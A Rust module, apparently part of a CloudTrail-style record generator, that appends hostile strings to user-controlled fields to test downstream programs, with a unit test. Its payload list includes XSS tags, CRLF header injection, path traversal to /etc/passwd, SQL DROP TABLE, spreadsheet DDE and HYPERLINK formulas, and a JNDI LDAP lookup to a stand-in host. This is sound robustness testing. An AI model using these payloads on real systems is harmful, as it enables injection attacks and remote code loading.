//! Text that breaks careless programs, put where an attacker can put text.
//!
//! The same name is always spoilt the same way, so that the story still holds together.

use serde_json::Value;

/// What a name, message or agent is followed by.
const NASTY: [&str; 12] = [
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "<script>alert(document.domain)</script>",
    "=HYPERLINK(\"http://203.0.113.9/\",\"click\")",
    "\u{202e}gpj.exe\u{202c}",
    "](javascript:alert(1)) **x** | `y` |\n# heading",
    "\"><img src=x onerror=alert(1)>",
    "\0\r\nSet-Cookie: a=b",
    "../../../../etc/passwd",
    "${jndi:ldap://203.0.113.9/a}%n%s{{7*7}}",
    "\u{200b}\u{feff}\u{2028}\u{e0041}\u{9b}31m",
    "'; DROP TABLE events; -- @SUM(1+1)*cmd|' /C calc'!A0",
    "</style></title><!--\u{fffd}]]>&amp;&#0;",
];
/// Members whose text the caller chooses.
const FREE: [&str; 24] = [
    "userAgent",
    "userName",
    "errorMessage",
    "roleName",
    "roleSessionName",
    "functionName",
    "key",
    "value",
    "description",
    "groupDescription",
    "groupName",
    "keyName",
    "name",
    "policyName",
    "logStreamName",
    "alarmName",
    "statementId",
    "repositoryName",
    "cluster",
    "service",
    "imageTag",
    "sessionName",
    "prefix",
    "tableName",
];

/// Spoils the free text of a record.
pub(crate) fn spoil(record: &mut Value) {
    match record {
        Value::Object(members) => {
            for (name, value) in members.iter_mut() {
                match value {
                    Value::String(text) if FREE.contains(&name.as_str()) => spoil_text(text),
                    Value::String(text) if name == "arn" && is_name_in_iam(text) => spoil_last(text),
                    other => spoil(other),
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(spoil),
        _ => {}
    }
}

/// Users and sessions, whose ARN ends in a name that the caller chooses. Roles keep theirs: they are looked
/// up by it.
fn is_name_in_iam(arn: &str) -> bool {
    arn.contains(":user/") || arn.contains(":assumed-role/")
}

fn spoil_last(arn: &mut String) {
    if let Some((front, last)) = arn.rsplit_once('/') {
        let mut last = last.to_owned();
        spoil_text(&mut last);
        *arn = format!("{front}/{last}");
    }
}

fn spoil_text(text: &mut String) {
    let sum = text
        .bytes()
        .fold(text.len(), |sum, byte| sum * 31 % 9_973 + usize::from(byte));
    text.push_str(NASTY[sum % NASTY.len()]);
    if sum % 97 == 0 {
        text.push_str(&"A".repeat(3_000));
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn names_are_spoilt_alike_everywhere_and_structure_is_left_alone() {
        let mut record = json!({
            "eventName": "CreateUser",
            "awsRegion": "eu-west-1",
            "userIdentity": {"arn": "arn:aws:iam::111122223333:user/ann", "userName": "ann"},
            "requestParameters": {"tags": [{"key": "team"}]},
        });
        spoil(&mut record);
        assert_eq!(record["eventName"], "CreateUser");
        assert_eq!(record["awsRegion"], "eu-west-1");
        let name = record["userIdentity"]["userName"].as_str().unwrap();
        assert!(name.len() > "ann".len());
        assert!(
            record["userIdentity"]["arn"]
                .as_str()
                .unwrap()
                .ends_with(&format!("/{name}"))
        );
        assert_ne!(record["requestParameters"]["tags"][0]["key"], "team");
    }
}
